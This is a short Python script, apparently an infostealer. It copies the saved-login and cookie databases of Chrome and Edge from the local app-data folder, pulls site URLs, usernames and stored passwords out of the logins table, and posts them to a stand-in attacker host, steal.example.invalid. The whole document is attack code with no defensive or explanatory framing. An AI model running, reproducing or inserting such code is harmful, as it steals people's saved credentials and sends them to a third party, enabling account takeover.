import os
import shutil
import sqlite3
import tempfile

import requests

LOCAL = os.getenv("LOCALAPPDATA", "")
PATHS = [
    os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data"),
    os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Network", "Cookies"),
    os.path.join(LOCAL, "Microsoft", "Edge", "User Data", "Default", "Login Data"),
]
rows = []
for src in PATHS:
    if os.path.exists(src):
        tmp = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(src, tmp)
        con = sqlite3.connect(tmp)
        rows += con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://steal.example.invalid/b", files={"f": str(rows)})
